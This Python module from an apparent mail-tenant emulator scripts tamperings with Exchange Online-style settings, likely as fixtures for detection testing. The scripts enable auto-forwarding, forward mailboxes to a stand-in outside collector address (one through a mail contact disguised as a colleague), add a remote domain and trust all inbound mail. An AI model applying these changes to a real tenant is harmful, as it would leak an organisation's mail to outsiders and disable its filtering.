"""Tampering with the automatic forwarding of mail, by the cmdlets that a person would use."""

from __future__ import annotations

from typing import TYPE_CHECKING

from holdfast.emulator.tamperings.cast import administrator
from holdfast.emulator.tamperings.cmdlets import named, run
from holdfast.emulator.tamperings.tampering import Tampering

if TYPE_CHECKING:
    from holdfast.emulator.tenant import Tenant

_POLICY = "HostedOutboundSpamFilterPolicy"
_PARTNER = "Partner"
_COLLECTOR = "collector@outside.example"
_CONTACT = "Bookkeeper"


def allow_forwarding(tenant: Tenant, *, policy: str | None = None) -> str:
    """Have an outbound spam filter policy let forwarded mail out.

    Args:
        tenant: where.
        policy: its name, by default the first that does not.

    Raises:
        TamperingError: no policy stops forwarding, or the cmdlet refuses.
    """
    actor = administrator(tenant)
    rows = run(tenant, actor, f"Get-{_POLICY}", {})
    stopping = [str(row["Name"]) for row in rows if row["AutoForwardingMode"] != "On"]
    name = named(stopping, policy, f"{tenant.domain} has no outbound policy that stops forwarding")
    run(tenant, actor, f"Set-{_POLICY}", {"Identity": name, "AutoForwardingMode": "On"})
    return f"{actor.user_principal_name} had the outbound policy '{name}' let forwarded mail out."


def forward_to_partner(tenant: Tenant) -> str:
    """Make a remote domain to which mail may be forwarded: a new one allows it.

    Args:
        tenant: where.

    Raises:
        TamperingError: there is one of that name already.
    """
    actor = administrator(tenant)
    run(tenant, actor, "New-RemoteDomain", {"Name": _PARTNER, "DomainName": "partner.example"})
    return f"{actor.user_principal_name} made the remote domain '{_PARTNER}', to which mail may be forwarded."


def forward_mailbox(tenant: Tenant, *, mailbox: str | None = None) -> str:
    """Have a mailbox forward what it gets to an address outside.

    Args:
        tenant: where.
        mailbox: user principal name, by default the administrator's own.

    Raises:
        TamperingError: there is no such mailbox.
    """
    actor = administrator(tenant)
    name = mailbox or actor.user_principal_name
    given = {"Identity": name, "ForwardingSmtpAddress": _COLLECTOR, "DeliverToMailboxAndForward": True}
    run(tenant, actor, "Set-Mailbox", given)
    return f"{actor.user_principal_name} had {name} forward to {_COLLECTOR}."


def forward_to_contact(tenant: Tenant, *, mailbox: str | None = None) -> str:
    """Have a mailbox forward what it gets to a mail contact, who stands in the organization's list like a colleague.

    Args:
        tenant: where.
        mailbox: user principal name, by default that of the seeded shared mailbox.

    Raises:
        TamperingError: there is no such mailbox, or a contact of that name already.
    """
    actor = administrator(tenant)
    name = mailbox or f"info@{tenant.domain}"
    run(tenant, actor, "New-MailContact", {"Name": _CONTACT, "ExternalEmailAddress": _COLLECTOR})
    run(tenant, actor, "Set-Mailbox", {"Identity": name, "ForwardingAddress": _CONTACT})
    return f"{actor.user_principal_name} had {name} forward to the mail contact '{_CONTACT}', {_COLLECTOR}."


def trust_everybody(tenant: Tenant) -> str:
    """Have mail from every domain without settings of its own pass the filters unlooked at.

    Args:
        tenant: where.

    Raises:
        TamperingError: the cmdlet refuses.
    """
    actor = administrator(tenant)
    run(tenant, actor, "Set-RemoteDomain", {"Identity": "Default", "TrustedMailInboundEnabled": True})
    return f"{actor.user_principal_name} had mail from every domain pass the filters."


TAMPERINGS = (
    Tampering(
        "allow-forwarding",
        "The administrator has an outbound spam filter policy let forwarded mail out.",
        allow_forwarding,
        ("policy",),
    ),
    Tampering(
        "forward-mailbox",
        "The administrator has a mailbox forward to an address outside.",
        forward_mailbox,
        ("mailbox",),
    ),
    Tampering(
        "forward-to-contact",
        "The administrator has a mailbox forward to a mail contact outside.",
        forward_to_contact,
        ("mailbox",),
    ),
    Tampering(
        "forward-to-partner",
        "The administrator makes a remote domain to which mail may be forwarded.",
        forward_to_partner,
    ),
    Tampering(
        "trust-everybody",
        "The administrator has mail from every domain pass the filters.",
        trust_everybody,
    ),
)
